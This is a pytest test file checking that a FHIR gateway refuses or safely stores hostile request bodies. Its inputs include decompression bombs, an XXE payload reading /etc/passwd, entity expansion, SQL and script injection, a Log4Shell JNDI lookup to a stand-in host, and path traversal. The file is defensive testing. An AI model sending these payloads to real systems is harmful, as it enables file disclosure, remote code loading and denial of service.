"""Bodies that were made to do harm: what is declared and what was sent must agree, and nothing grows on the way."""

from __future__ import annotations

import bz2
import gzip
import io
import zipfile
import zlib
from collections.abc import Callable

import httpx
import orjson
import pytest

from tests.gateways.fhir.conftest import JSON, codes, created, patient

pytestmark = pytest.mark.anyio

MEGABYTE = 1024 * 1024


def zip_bomb() -> bytes:
    """Megabytes of zeros in kilobytes."""
    held = io.BytesIO()
    with zipfile.ZipFile(held, "w", zipfile.ZIP_DEFLATED) as packed:
        packed.writestr("patient.json", bytes(20 * MEGABYTE))
    return held.getvalue()


OTHER_THINGS: dict[str, Callable[[], bytes]] = {
    "zip": zip_bomb,
    "gzip": lambda: gzip.compress(bytes(20 * MEGABYTE)),
    "bzip2": lambda: bz2.compress(bytes(20 * MEGABYTE)),
    "deflate": lambda: zlib.compress(bytes(20 * MEGABYTE)),
    "xml": lambda: b'<?xml version="1.0"?><Patient xmlns="http://hl7.org/fhir"/>',
    "xml that reads files": lambda: b'<!DOCTYPE p [<!ENTITY x SYSTEM "file:///etc/passwd">]><Patient>&x;</Patient>',
    "xml that grows": lambda: b'<!DOCTYPE p [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;&a;">]><Patient>&b;</Patient>',
    "html": lambda: b"<!doctype html><script>alert(1)</script>",
    "pdf": lambda: b"%PDF-1.7\n",
    "program": lambda: b"\x7fELF\x02\x01\x01",
    "csv": lambda: b"id,name\n1,=1+1\n",
    "ndjson": lambda: b'{"resourceType":"Patient"}\n{"resourceType":"Patient"}',
    "several values": lambda: b'{"resourceType":"Patient"}{"resourceType":"Patient"}',
    "yaml": lambda: b"resourceType: Patient",
    "json with a comment": lambda: b'{"resourceType":"Patient"/* */}',
    "json after a mark": lambda: b'\xef\xbb\xbf{"resourceType":"Patient"}',
    "utf-16": lambda: '{"resourceType":"Patient"}'.encode("utf-16"),
    "utf-32": lambda: '{"resourceType":"Patient"}'.encode("utf-32"),
    "gb18030": lambda: '{"resourceType":"Patient","name":[{"text":"示例"}]}'.encode("gb18030"),
    "overlong utf-8": lambda: b'{"resourceType":"Patient","gender":"\xc0\xaf"}',
    "half a letter": lambda: b'{"resourceType":"Patient","gender":"\xe4\xb8"}',
    "half a pair": lambda: b'{"resourceType":"Patient","gender":"\\ud83d"}',
    "naked NUL": lambda: b'{"resourceType":"Patient","gender":"a\x00b"}',
    "nothing but NUL": lambda: bytes(1_000),
    "not a number": lambda: b'{"resourceType":"Patient","multipleBirthInteger":NaN}',
    "number without end": lambda: b'{"resourceType":"Patient","multipleBirthInteger":1e999999}',
    "deep": lambda: b'{"resourceType":"Patient","contact":' + b"[" * 100_000 + b"]" * 100_000 + b"}",
    "deep and open": lambda: b'{"a":' * 100_000,
    "key twice": lambda: b'{"resourceType":"Patient","id":"a","id":"b"}',
    "key twice, once in disguise": lambda: b'{"resourceType":"Patient","id":"a","\\u0069d":"b"}',
    "quote without end": lambda: b'{"resourceType":"Patient","id":"' + b"a" * MEGABYTE,
}
"""Bodies declared as FHIR JSON that are none."""


@pytest.mark.parametrize("name", OTHER_THINGS)
async def test_what_is_declared_as_json_and_is_none_is_refused(client: httpx.AsyncClient, name: str) -> None:
    for address in ("Patient", ""):
        answer = await client.post(address, content=OTHER_THINGS[name](), headers=JSON)
        assert answer.status_code == 400, answer.text[:300]
        assert codes(answer)[0].startswith(("json-", "not-a-resource")), codes(answer)


@pytest.mark.parametrize(
    "content_type",
    [
        "multipart/form-data; boundary=x",
        "application/zip",
        "application/octet-stream",
        "text/html",
        "text/plain",
        "application/fhir+xml",
        "application/x-www-form-urlencoded",
        "application/fhir+json; charset=utf-16",
        "application/json, text/html",
        "application/json\x0btext/html",
    ],
)
async def test_what_is_declared_as_something_else_is_refused_unread(
    client: httpx.AsyncClient, content_type: str
) -> None:
    body = orjson.dumps(patient())
    answer = await client.post("Patient", content=body, headers={"content-type": content_type})
    assert (answer.status_code, codes(answer)) == (415, ["format-not-taken"])


@pytest.mark.parametrize("encoding", ["gzip", "deflate", "br", "zstd", "gzip, identity", "x-gzip"])
async def test_a_compressed_body_is_never_unpacked(client: httpx.AsyncClient, encoding: str) -> None:
    body = gzip.compress(orjson.dumps(patient()))
    form = {"content-type": "application/x-www-form-urlencoded"}
    for address, headers in (("Patient", JSON), ("Patient/_search", form)):
        answer = await client.post(address, content=body, headers={**headers, "content-encoding": encoding})
        assert (answer.status_code, codes(answer)) == (415, ["encoding-not-taken"])


async def test_a_form_that_is_none_is_refused(client: httpx.AsyncClient) -> None:
    headers = {"content-type": "application/x-www-form-urlencoded"}
    for body in (b"\xff\xfe", b"name=\xe4\xb8", b"a&" * 3_000):
        answer = await client.post("Patient/_search", content=body, headers=headers)
        assert answer.status_code == 400, body[:20]
    headers = {"content-type": "multipart/form-data; boundary=x"}
    answer = await client.post("Patient/_search", content=b"--x--", headers=headers)
    assert codes(answer) == ["format-not-taken"]


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://x.example","a")',
        "+1+1",
        "-1+1",
        "@SUM(A1)",
        "<script>alert(1)</script>",
        "'; drop table resource; --",
        "${jndi:ldap://x.example}",
        "{{7*7}}",
        "../../etc/passwd",
        "\u202eecnirp",
    ],
)
async def test_text_that_means_something_elsewhere_stays_text(client: httpx.AsyncClient, text: str) -> None:
    made = await created(client, "Patient", patient(name=[{"text": text}]))
    read = await client.get(f"Patient/{made['id']}")
    assert read.json()["name"] == [{"text": text}]
    assert read.headers["content-type"] == "application/fhir+json; charset=utf-8"
    assert read.headers["x-content-type-options"] == "nosniff"


async def test_a_string_of_megabytes_is_stored_or_refused_but_not_cut(client: httpx.AsyncClient) -> None:
    text = "长" * (2 * MEGABYTE)
    answer = await client.post("Patient", json=patient(name=[{"text": text}]), headers=JSON)
    if answer.status_code == 201:
        assert (await client.get(f"Patient/{answer.json()['id']}")).json()["name"] == [{"text": text}]
    else:
        assert (answer.status_code, codes(answer)[0]) == (422, "resource-invalid")
